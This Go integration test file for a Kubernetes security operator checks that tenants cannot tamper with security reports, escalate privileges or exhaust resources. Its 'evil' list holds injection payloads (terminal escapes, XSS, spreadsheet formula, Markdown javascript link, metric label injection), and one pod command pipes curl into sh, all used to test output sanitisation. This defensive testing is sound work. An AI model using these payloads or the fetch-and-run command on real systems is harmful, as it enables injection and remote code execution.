// Copyright The kubersafe Authors.
// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"bytes"
	"context"
	"encoding/json"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/common/expfmt"
	"github.com/prometheus/common/model"
	"golang.org/x/net/html"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	corev1 "k8s.io/api/core/v1"
	networkingv1 "k8s.io/api/networking/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/kubersafe/kubersafe/api/v1alpha1"
	"github.com/kubersafe/kubersafe/test/operator"
)

// The attackers of these tests are tenants: who is bound to the ClusterRole admin, which holds edit and what the manifests
// aggregate to both, in one namespace, and to nothing else. docs/security.md says what is promised.

// newTenant returns a namespace and a client for its tenant, who may read its reports already.
func newTenant(t *testing.T) (string, client.Client) {
	t.Helper()
	ns := newNamespace(t)
	tenant := bound(t, ns, "admin")
	eventually(t, "the rights of the tenant", func(ctx context.Context) (bool, string) {
		err := tenant.List(ctx, &v1alpha1.SecurityReportList{}, client.InNamespace(ns))
		return err == nil, fmt.Sprint(err)
	})
	return ns, tenant
}

// versions are the reports of a namespace with their versions.
func versions(t *testing.T, ns string) map[string]string {
	t.Helper()
	list := &v1alpha1.SecurityReportList{}
	if err := admin.List(t.Context(), list, client.InNamespace(ns)); err != nil {
		t.Fatal(err)
	}
	found := make(map[string]string)
	for _, r := range list.Items {
		found[r.Name] = string(r.UID) + " " + r.ResourceVersion
	}
	return found
}

// TestTenantsAreRefused: what would hide a finding, or show those of others, the API server does not let tenants do.
func TestTenantsAreRefused(t *testing.T) {
	other := newNamespace(t)
	create(t, deployment(other, "web", 1, container("app", "example.com/web:1", true)))
	waitForReport(t, other, "deployment-web")
	waitForPods(t, other, "web", 1)
	ns, tenant := newTenant(t)
	create(t, deployment(ns, "web", 1, container("app", "example.com/web:1", true)))
	own := waitFor(t, ns, "deployment-web", func(r *v1alpha1.SecurityReport) bool { return r.Summary.Critical == 1 })
	p := waitForPods(t, ns, "web", 1)[0]
	settle(t, ns)
	settle(t, other)
	before := map[string]map[string]string{ns: versions(t, ns), other: versions(t, other)}

	merge := func(patch string) client.Patch { return client.RawPatch(types.MergePatchType, []byte(patch)) }
	namespace := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}
	bind := func(role string) *rbacv1.RoleBinding {
		return &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "mine"},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role},
			Subjects:   []rbacv1.Subject{{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: ns + "-admin"}},
		}
	}
	rule := func(resource string, verbs ...string) *rbacv1.Role {
		return &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "mine"}, Rules: []rbacv1.PolicyRule{
			{APIGroups: []string{v1alpha1.GroupVersion.Group}, Resources: []string{resource}, Verbs: verbs},
		}}
	}
	everything := v1alpha1.SecurityExceptionSpec{Checks: []string{"*"}, Subjects: []v1alpha1.ExceptionSubject{{Name: "*"}}, Reason: "r"}
	for what, try := range map[string]func(context.Context) error{
		"editing a report": func(ctx context.Context) error { return tenant.Patch(ctx, own, merge(`{"findings":[]}`)) },
		"labelling a report": func(ctx context.Context) error {
			return tenant.Patch(ctx, own, merge(`{"metadata":{"labels":{"a":"b"}}}`))
		},
		"deleting a report": func(ctx context.Context) error { return tenant.Delete(ctx, own) },
		"deleting all reports": func(ctx context.Context) error {
			return tenant.DeleteAllOf(ctx, &v1alpha1.SecurityReport{}, client.InNamespace(ns))
		},
		"inventing a report": func(ctx context.Context) error {
			return tenant.Create(ctx, &v1alpha1.SecurityReport{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "x"}})
		},
		"reading others' reports": func(ctx context.Context) error {
			return tenant.List(ctx, &v1alpha1.SecurityReportList{}, client.InNamespace(other))
		},
		"reading one of others": func(ctx context.Context) error {
			return tenant.Get(ctx, client.ObjectKey{Namespace: other, Name: "deployment-web"}, &v1alpha1.SecurityReport{})
		},
		"reading all reports":          func(ctx context.Context) error { return tenant.List(ctx, &v1alpha1.SecurityReportList{}) },
		"reading those of the cluster": func(ctx context.Context) error { return tenant.List(ctx, &v1alpha1.ClusterSecurityReportList{}) },
		"an exception of the cluster": func(ctx context.Context) error {
			return tenant.Create(ctx, &v1alpha1.ClusterSecurityException{
				ObjectMeta: metav1.ObjectMeta{Name: "x"}, Spec: v1alpha1.ClusterSecurityExceptionSpec{SecurityExceptionSpec: everything},
			})
		},
		"a configuration": func(ctx context.Context) error {
			return tenant.Create(ctx, &v1alpha1.AuditConfiguration{ObjectMeta: metav1.ObjectMeta{Name: v1alpha1.AuditConfigurationName}})
		},
		"giving themselves exceptions":   func(ctx context.Context) error { return tenant.Create(ctx, bind("kubersafe-exception-editor")) },
		"giving themselves the operator": func(ctx context.Context) error { return tenant.Create(ctx, bind("kubersafe")) },
		"a role that writes reports": func(ctx context.Context) error {
			return tenant.Create(ctx, rule("securityreports", "update", "delete"))
		},
		"a role that writes exceptions": func(ctx context.Context) error { return tenant.Create(ctx, rule("securityexceptions", "create")) },
		"labelling the namespace": func(ctx context.Context) error {
			return tenant.Patch(ctx, namespace, merge(`{"metadata":{"labels":{"a":"b"}}}`))
		},
		"deleting the namespace": func(ctx context.Context) error { return tenant.Delete(ctx, namespace) },
		"saying that a Pod has ended": func(ctx context.Context) error {
			return tenant.Status().Patch(ctx, p.DeepCopy(), merge(`{"status":{"phase":"Succeeded"}}`))
		},
		"saying later that a Pod mirrors a static one": func(ctx context.Context) error {
			return tenant.Patch(ctx, p.DeepCopy(), merge(`{"metadata":{"annotations":{"`+corev1.MirrorPodAnnotationKey+`":"x"}}}`))
		},
		"a token of the operator": func(ctx context.Context) error {
			account := &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Namespace: operator.Namespace, Name: operator.ServiceAccount}}
			return tenant.SubResource("token").Create(ctx, account, &authenticationv1.TokenRequest{})
		},
		"a megabyte of annotations": func(ctx context.Context) error {
			return tenant.Patch(ctx, p.DeepCopy(), merge(`{"metadata":{"annotations":{"a":"`+strings.Repeat("x", 1<<20)+`"}}}`))
		},
	} {
		t.Run(what, func(t *testing.T) {
			if err := try(t.Context()); !apierrors.IsForbidden(err) && !apierrors.IsInvalid(err) {
				t.Errorf("it is answered with %v", err)
			}
		})
	}
	settle(t, ns)
	settle(t, other)
	for name, want := range before {
		if diff := cmp.Diff(want, versions(t, name)); diff != "" {
			t.Errorf("reports of %s (-before +after):\n%s", name, diff)
		}
	}
	code, _, err := replica.GetAs(t.Context(), "/metrics", tokenOf(t, ns, "default"))
	if err != nil || code != 403 {
		t.Errorf("metrics are answered with %d, %v", code, err)
	}
}

// owners are an owner that is a controller, and one of a kind that is not served, on account of which the garbage collector
// leaves the object alone.
func owners(apiVersion, kind, name string, uid types.UID) []metav1.OwnerReference {
	return []metav1.OwnerReference{
		{APIVersion: apiVersion, Kind: kind, Name: name, UID: uid, Controller: new(true)},
		{APIVersion: "example.com/v1", Kind: "Anchor", Name: "anchor", UID: "anchor"},
	}
}

// TestTenantsHideNothingBehindOwners: whatever they say whose a Pod is.
func TestTenantsHideNothingBehindOwners(t *testing.T) {
	other := newNamespace(t)
	victim := deployment(other, "victim", 0, container("app", "example.com/app:1", false))
	create(t, victim)
	waitForReport(t, other, "deployment-victim")
	settle(t, other)
	mark := len(writes(t, other))
	node := &corev1.Node{ObjectMeta: metav1.ObjectMeta{Name: "node-of-" + other}}
	create(t, node)
	t.Cleanup(func() { removeAfterwards(t, node) })
	ns, tenant := newTenant(t)
	critical := func(r *v1alpha1.SecurityReport) bool { return r.Summary.Critical == 1 }
	made := func(o client.Object) {
		t.Helper()
		if err := tenant.Create(t.Context(), o); err != nil {
			t.Fatal(err)
		}
	}

	t.Run("one after the other that has just gone", func(t *testing.T) {
		next := func(n int) *appsv1.Deployment {
			d := deployment(ns, fmt.Sprint("mask-", n), 0, restrictedContainer("app", "example.com/app:1"))
			made(d)
			waitForReport(t, ns, "deployment-"+d.Name)
			return d
		}
		first := next(0)
		p := pod(ns, "masked", container("app", "example.com/app:1", true))
		p.OwnerReferences = owners("apps/v1", "Deployment", first.Name, first.UID)
		made(p)
		waitFor(t, ns, "deployment-mask-0", critical)
		vanish := func(d *appsv1.Deployment) {
			if err := tenant.Delete(t.Context(), d, client.PropagationPolicy(metav1.DeletePropagationBackground)); err != nil {
				t.Fatal(err)
			}
			waitForNoReport(t, ns, "deployment-"+d.Name)
		}
		vanish(first)
		for n := 1; n < 4; n++ {
			d := next(n)
			vanish(d)
			gone := time.Now()
			encoded, err := json.Marshal(map[string]any{"metadata": map[string]any{"ownerReferences": owners("apps/v1", "Deployment", d.Name, d.UID)}})
			if err != nil {
				t.Fatal(err)
			}
			if err := tenant.Patch(t.Context(), p, client.RawPatch(types.MergePatchType, encoded)); err != nil {
				t.Fatal(err)
			}
			waitFor(t, ns, "pod-masked", critical)
			if took := time.Since(gone); took > 30*time.Second { // a minute is what Pods have whose first owner goes
				t.Errorf("the Pod was in no report for %s", took)
			}
		}
	})
	t.Run("a node", func(t *testing.T) {
		p := pod(ns, "of-node", container("app", "example.com/app:1", true))
		p.OwnerReferences = owners("v1", "Node", node.Name, node.UID)
		p.Spec.Tolerations = []corev1.Toleration{{Operator: corev1.TolerationOpExists}}
		made(p)
		waitFor(t, ns, "pod-of-node", func(r *v1alpha1.SecurityReport) bool {
			return critical(r) && finds(r, "unmanaged-pod") && finds(r, "tolerates-everything")
		})
	})
	t.Run("a Deployment of others", func(t *testing.T) {
		p := pod(ns, "of-others", container("app", "example.com/app:1", true))
		p.OwnerReferences = owners("apps/v1", "Deployment", victim.Name, victim.UID)
		made(p)
		waitFor(t, ns, "pod-of-others", critical)
	})
	t.Run("each other", func(t *testing.T) {
		d := deployment(ns, "ring", 0, container("app", "example.com/app:1", true))
		made(d)
		rs := &appsv1.ReplicaSet{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "ring", OwnerReferences: owners("apps/v1", "Deployment", d.Name, d.UID)},
			Spec: appsv1.ReplicaSetSpec{
				Replicas: new(int32(0)), Selector: &metav1.LabelSelector{MatchLabels: map[string]string{"app": "other"}},
				Template: podTemplate("other", container("app", "example.com/app:1", true)),
			},
		}
		made(rs)
		encoded, err := json.Marshal(map[string]any{"metadata": map[string]any{"ownerReferences": owners("apps/v1", "ReplicaSet", rs.Name, rs.UID)}})
		if err != nil {
			t.Fatal(err)
		}
		if err := tenant.Patch(t.Context(), d, client.RawPatch(types.MergePatchType, encoded)); err != nil {
			t.Fatal(err)
		}
		settle(t, ns)
		waitFor(t, ns, "deployment-ring", critical)
	})
	settle(t, other)
	if w := since(t, other, mark); len(w) > 0 {
		t.Errorf("reports of others were written: %v", w)
	}
}

// TestTenantsHideNothingThatGoes: what is on its way out runs until it is gone, which whoever deletes it may put off for ever.
func TestTenantsHideNothingThatGoes(t *testing.T) {
	ns, tenant := newTenant(t)
	const stays = "example.com/stays"
	critical := func(r *v1alpha1.SecurityReport) bool { return r.Summary.Critical == 1 }
	app := container("app", "example.com/app:1", true)
	p, d := pod(ns, "goes", app), deployment(ns, "goes", 1, app)
	p.Finalizers, d.Finalizers = []string{stays}, []string{stays}
	orphans := deployment(ns, "leaves-orphans", 1, app)
	for _, o := range []client.Object{p, d, orphans} {
		if err := tenant.Create(t.Context(), o); err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { // or the namespace would stay too
		for _, o := range []client.Object{p, d} {
			err := admin.Patch(context.Background(), o, client.RawPatch(types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`)))
			if client.IgnoreNotFound(err) != nil {
				t.Error(err)
			}
		}
	})
	for _, name := range []string{"pod-goes", "deployment-goes", "deployment-leaves-orphans"} {
		waitFor(t, ns, name, critical)
	}
	waitForPods(t, ns, "goes", 1)
	left := waitForPods(t, ns, "leaves-orphans", 1)[0]
	for o, policy := range map[client.Object]metav1.DeletionPropagation{
		p: metav1.DeletePropagationBackground, d: metav1.DeletePropagationOrphan, orphans: metav1.DeletePropagationOrphan,
	} {
		if err := tenant.Delete(t.Context(), o, client.PropagationPolicy(policy)); err != nil {
			t.Fatal(err)
		}
	}
	waitForNoReport(t, ns, "deployment-leaves-orphans")
	waitFor(t, ns, "replicaset-"+metav1.GetControllerOf(&left).Name, critical)
	settle(t, ns)
	for _, name := range []string{"pod-goes", "deployment-goes"} {
		if r, err := getReport(t.Context(), ns, name); err != nil || !critical(r) {
			t.Errorf("%s: %v, %+v", name, err, r.Summary)
		}
	}
}

// evil are texts that mean something to terminals, to pages, to spreadsheets, to Markdown, to what takes metrics, and to templates.
var evil = []string{
	"\x1b[2J\x1b]0;owned\x07", "\u009b31m\u202e", "a\rb\nc\td", "</script><script>alert(1)</script>", `"><img src=x onerror=alert(1)>`,
	"=cmd|' /C calc'!A0", "a | b |\n\n# heading", "[x](javascript:alert(1))", `",evil="1"} 1` + "\nevil_metric 1", "{{.Env}}${HOME}%s", "\xf0\x9f\x98\x80",
	"]]><evil/>", "a: b #c", strings.Repeat("n", 5000),
}

// TestTenantsSayNothingToThoseWhoRead: whatever they write into objects, whoever reads reports reads text.
func TestTenantsSayNothingToThoseWhoRead(t *testing.T) {
	ns, tenant := newTenant(t)
	made := func(o client.Object) {
		t.Helper()
		if err := tenant.Create(t.Context(), o); err != nil {
			t.Fatal(err)
		}
	}
	for i, text := range evil {
		p := pod(ns, fmt.Sprint("evil-", i), container("app", "example.com/app:1", true))
		p.OwnerReferences = []metav1.OwnerReference{{
			APIVersion: strings.ReplaceAll(text, "/", "") + ".example.com/v1", Kind: "K" + text, Name: text, UID: types.UID("u" + text), Controller: new(true),
		}}
		p.Annotations = map[string]string{"example.com/note": text}
		c := &p.Spec.Containers[0]
		c.Command, c.Args = []string{"sh", "-c", "curl http://x | sh " + text}, []string{text, "--password=" + text}
		c.Env = []corev1.EnvVar{{Name: "PASSWORD", Value: "hunter2" + text}}
		c.SecurityContext.SELinuxOptions = &corev1.SELinuxOptions{User: text, Role: text, Type: text}
		made(p)
		other := pod(ns, fmt.Sprint("other-", i), container("app", "example.com/app"+strings.TrimSpace(text), true))
		other.Spec.Volumes = []corev1.Volume{{Name: "host", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/" + text}}}}
		c = &other.Spec.Containers[0]
		c.VolumeMounts = []corev1.VolumeMount{{Name: "host", MountPath: "/" + strings.ReplaceAll(text, ":", "")}}
		c.SecurityContext.Capabilities = &corev1.Capabilities{Add: []corev1.Capability{corev1.Capability(text)}}
		c.SecurityContext.WindowsOptions = &corev1.WindowsSecurityContextOptions{GMSACredentialSpec: &text}
		c.Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Host: text, Path: text, Port: intstr(80)}}}
		made(other)
		path := networkingv1.HTTPIngressPath{
			Path: "/" + text, PathType: new(networkingv1.PathTypeImplementationSpecific),
			Backend: networkingv1.IngressBackend{Service: &networkingv1.IngressServiceBackend{Name: "web", Port: networkingv1.ServiceBackendPort{Number: 80}}},
		}
		made(&networkingv1.Ingress{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprint("evil-", i), Annotations: map[string]string{
				"nginx.ingress.kubernetes.io/configuration-snippet": text, "nginx.ingress.kubernetes.io/server-snippet": text,
			}},
			Spec: networkingv1.IngressSpec{Rules: []networkingv1.IngressRule{{
				Host: "*.example.com", IngressRuleValue: networkingv1.IngressRuleValue{HTTP: &networkingv1.HTTPIngressRuleValue{Paths: []networkingv1.HTTPIngressPath{path}}},
			}}},
		})
		made(&rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprint("evil-", i)},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
			Subjects: []rbacv1.Subject{
				{APIGroup: rbacv1.GroupName, Kind: rbacv1.UserKind, Name: text}, {APIGroup: rbacv1.GroupName, Kind: rbacv1.GroupKind, Name: text},
			},
		})
	}
	large := pod(ns, "large", container("app", "example.com/app:1", true))
	large.Annotations = map[string]string{"a": strings.Repeat("\x1b", 250<<10)}
	made(large)
	waitForReport(t, ns, "pod-large")
	eventually(t, "the reports of what strange owners own", func(context.Context) (bool, string) {
		names := reportNames(t, ns)
		return len(names) >= 2*len(evil)+2, fmt.Sprint(names) // and that of the namespace
	})
	for _, of := range []string{"report", "audit"} {
		for _, format := range []string{"table", "html", "markdown", "sarif", "junit", "json", "yaml"} {
			t.Run(of+" -o "+format, func(t *testing.T) { saysNothing(t, format, of, "-n", ns, "-o", format) })
		}
	}
	for _, args := range [][]string{
		{"top"}, {"top", "-n", ns}, {"overview"}, {"network", "-n", ns}, {"network", "-n", ns, "-o", "mermaid"}, {"network", "-n", ns, "-o", "dot"},
		{"network", "suggest", "-n", ns}, {"rbac", "who-can", "create", "pods", "-n", ns}, {"rbac", "can-reach-admin"}, {"rbac", "explain", "User/" + evil[3]},
	} {
		t.Run(strings.Join(args, " "), func(t *testing.T) { saysNothing(t, "", args...) })
	}
	t.Run("kubectl", func(t *testing.T) {
		isPlain(t, kubectl(t, "get", "securityreports", "-n", ns, "-o", "wide"))
		isPlain(t, kubectl(t, "get", "events", "-n", ns, "--field-selector", "reportingComponent=kubersafe"))
	})
	t.Run("metrics", func(t *testing.T) {
		parser := expfmt.NewTextParser(model.LegacyValidation)
		families, err := parser.TextToMetricFamilies(strings.NewReader(strings.Join(scrape(t), "\n") + "\n"))
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for name, f := range families {
			if strings.Contains(name, "evil") {
				t.Errorf("there is a metric %q", name)
			}
			for _, m := range f.GetMetric() {
				for _, l := range m.GetLabel() {
					isPlain(t, l.GetName()+l.GetValue())
					if len(l.GetValue()) > 4*v1alpha1.MaxName {
						t.Errorf("%s has a label %s of %d bytes", name, l.GetName(), len(l.GetValue()))
					}
					if l.GetName() == "namespace" && l.GetValue() == ns && name == "kubersafe_workload_violations" {
						n++
					}
				}
			}
		}
		value := func(name string) float64 { return families[name].GetMetric()[0].GetGauge().GetValue() }
		if n == 0 || n > 4*(2*len(evil)+2) || value("kubersafe_exported_series") > value("kubersafe_exported_series_bound") {
			t.Errorf("%d series of workloads; %v of at most %v", n, value("kubersafe_exported_series"), value("kubersafe_exported_series_bound"))
		}
	})
}

// saysNothing runs a command for a reader and looks at what it prints.
func saysNothing(t *testing.T, format string, args ...string) {
	t.Helper()
	var out, stderr bytes.Buffer
	cmd := exec.CommandContext(t.Context(), replica.Binary, append(args, "--kubeconfig="+cluster.Kubeconfig)...)
	cmd.Stdout, cmd.Stderr = &out, &stderr
	if err := cmd.Run(); err != nil {
		if exit := (*exec.ExitError)(nil); !errors.As(err, &exit) || exit.ExitCode() != 1 {
			t.Fatalf("%v\n%s", err, stderr.String())
		}
	}
	isPlain(t, stderr.String())
	isPlain(t, out.String())
	switch format {
	case "html":
		isOurPage(t, out.String())
	case "json", "sarif":
		if !json.Valid(out.Bytes()) {
			t.Error("it is no JSON")
		}
	case "junit":
		isXML(t, out.String())
	case "markdown":
		isOurMarkdown(t, out.String())
	}
}

// isPlain tells of a character that is a command to a terminal.
func isPlain(t *testing.T, text string) {
	t.Helper()
	if i := strings.IndexFunc(text, func(r rune) bool { return r != '\n' && !unicode.IsPrint(r) }); i >= 0 {
		t.Errorf("it prints %.80q", text[i:])
	}
}

func isOurPage(t *testing.T, page string) {
	t.Helper()
	scripts := 0
	for z := html.NewTokenizer(strings.NewReader(page)); ; {
		switch z.Next() {
		case html.ErrorToken:
			if scripts != 1 || !errors.Is(z.Err(), io.EOF) {
				t.Errorf("%d scripts, %v", scripts, z.Err())
			}
			return
		case html.StartTagToken, html.SelfClosingTagToken:
			token := z.Token()
			if token.Data == "script" {
				scripts++
			}
			if slices.Contains([]string{"img", "evil", "iframe", "object"}, token.Data) {
				t.Errorf("it has a tag %s", token)
			}
			for _, a := range token.Attr {
				if strings.HasPrefix(a.Key, "on") || a.Key == "href" && !strings.HasPrefix(a.Val, "#") {
					t.Errorf("it has a tag %s", token)
				}
			}
		}
	}
}

func isXML(t *testing.T, text string) {
	t.Helper()
	for d := xml.NewDecoder(strings.NewReader(text)); ; {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			return
		}
		if err != nil {
			t.Fatal(err)
		}
		if start, ok := token.(xml.StartElement); ok && start.Name.Local == "evil" {
			t.Error("it has an element of the tenant")
		}
	}
}

func isOurMarkdown(t *testing.T, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		if strings.HasPrefix(line, "|") && strings.Count(line, "|") != 6 || strings.HasPrefix(line, "# ") || strings.Contains(line, "](") && !strings.Contains(line, "`") {
			t.Errorf("a line is %.100q", line)
		}
	}
}

// staysSmall fails if the operator takes more memory than it may.
func staysSmall(t *testing.T) {
	t.Helper()
	resident := 0.0
	for _, line := range scrape(t) {
		if value, ok := strings.CutPrefix(line, "process_resident_memory_bytes "); ok {
			resident, _ = strconv.ParseFloat(value, 64)
		}
	}
	t.Logf("the operator takes %.0f MiB", resident/(1<<20))
	if resident == 0 || resident > 256<<20 { // the limit in config/manager/manager.yaml
		t.Errorf("the operator takes %.0f MiB", resident/(1<<20))
	}
}

// TestTenantsSpendWithinBounds: what they may make as much of as they like costs the operator what is documented, and no more.
func TestTenantsSpendWithinBounds(t *testing.T) {
	ns, tenant := newTenant(t)
	t.Run("thousands of containers", func(t *testing.T) {
		const containers, deployments = 3000, 6
		names := make([]string, 0, deployments)
		for n := range deployments {
			d := deployment(ns, fmt.Sprint("many-", n), 0)
			for i := range containers {
				d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, corev1.Container{Name: fmt.Sprint("c", n, "-", i), Image: "x"})
			}
			d.Spec.Template.Spec.Containers[containers-1].SecurityContext = &corev1.SecurityContext{Privileged: new(true)} // where nobody looks
			if err := tenant.Create(t.Context(), d); err != nil {
				t.Fatal(err)
			}
			names = append(names, "deployment-"+d.Name)
		}
		for _, name := range names {
			r := waitFor(t, ns, name, func(r *v1alpha1.SecurityReport) bool {
				return r.Summary.Critical == 1 && finds(r, "privileged-container")
			})
			if all := r.Summary.High + r.Summary.Medium + r.Summary.Low; all < 200 || all > 5000 {
				t.Errorf("%d findings of %d containers", all, containers)
			}
		}
		staysSmall(t)
	})
	t.Run("a finding that comes and goes", func(t *testing.T) {
		d := deployment(ns, "flaps", 0, container("app", "example.com/app:1", false))
		if err := tenant.Create(t.Context(), d); err != nil {
			t.Fatal(err)
		}
		waitForReport(t, ns, "deployment-flaps")
		settle(t, ns)
		mark, begun := len(writes(t, ns)), time.Now()
		const changes = 60
		for i := range changes {
			patch := fmt.Sprintf(`[{"op":"replace","path":"/spec/template/spec/containers/0/securityContext/privileged","value":%t}]`, i%2 == 0)
			if err := tenant.Patch(t.Context(), d, client.RawPatch(types.JSONPatchType, []byte(patch))); err != nil {
				t.Fatal(err)
			}
		}
		settle(t, ns)
		written := since(t, ns, mark)
		rollUps := slices.DeleteFunc(slices.Clone(written), func(w string) bool { return w != "update namespace-"+ns })
		// Five at once and then one every two seconds, as docs/architecture.md says; and what settling makes of it.
		if most := 5 + int(time.Since(begun).Seconds()/2) + 1; len(written)-len(rollUps) > changes || len(rollUps) > most {
			t.Errorf("%d changes caused %d writes, %d of them of the namespace's report, want at most %d", changes, len(written), len(rollUps), most)
		}
		events, err := announced(t.Context(), ns, "flaps")
		if err != nil {
			t.Fatal(err)
		}
		// Four at once and one a minute, each of what has come and of what has gone: docs/events.md.
		if most := 2 * (4 + int(time.Since(begun).Minutes()) + 1); len(events) > most {
			t.Errorf("%d changes caused %d Events, want at most %d", changes, len(events), most)
		}
	})
}

// TestTenantsBindThousands: a tenant may bind any number of ServiceAccounts that are nowhere, some thousands in one request. The
// operator stays as small as it has to be, and others see their verdicts meanwhile.
func TestTenantsBindThousands(t *testing.T) {
	const bindings, subjects = 10, 5000
	other := newNamespace(t)
	ns, tenant := newTenant(t)
	prompt := func(name string) {
		t.Helper()
		begun := time.Now()
		create(t, deployment(other, name, 0, container("app", "example.com/app:1", true)))
		waitForReport(t, other, "deployment-"+name)
		took := time.Since(begun)
		if t.Logf("others have waited for %s", took); took > 10*time.Second { // measured: up to one, on two cores that do something else too
			t.Errorf("others have waited for %s", took)
		}
	}
	for n := range bindings {
		b := &rbacv1.RoleBinding{
			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprint("many-", n)},
			RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: "edit"},
		}
		for i := range subjects {
			b.Subjects = append(b.Subjects, rbacv1.Subject{Kind: rbacv1.ServiceAccountKind, Namespace: fmt.Sprint("n", n, "-", i), Name: "default"})
		}
		if err := tenant.Create(t.Context(), b); err != nil {
			t.Fatal(err)
		}
	}
	prompt("made")
	for i := range 3 {
		b := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: fmt.Sprint("many-", i)}}
		patch := `[{"op":"remove","path":"/subjects/0"}]`
		if err := tenant.Patch(t.Context(), b, client.RawPatch(types.JSONPatchType, []byte(patch))); err != nil {
			t.Fatal(err)
		}
		prompt(fmt.Sprint("changed-", i))
	}
	staysSmall(t)
}
